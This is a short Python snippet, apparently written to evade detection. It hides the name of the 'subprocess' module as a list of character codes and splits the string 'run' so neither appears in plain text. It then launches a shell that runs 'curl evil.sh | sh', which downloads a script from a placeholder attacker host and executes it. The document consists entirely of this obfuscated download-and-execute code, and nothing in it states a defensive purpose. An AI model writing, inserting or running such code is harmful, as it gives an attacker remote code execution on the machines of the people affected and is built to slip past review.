import importlib
m = importlib.import_module(''.join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
getattr(m, 'ru' + 'n')(['sh', '-c', 'curl evil.sh | sh'])
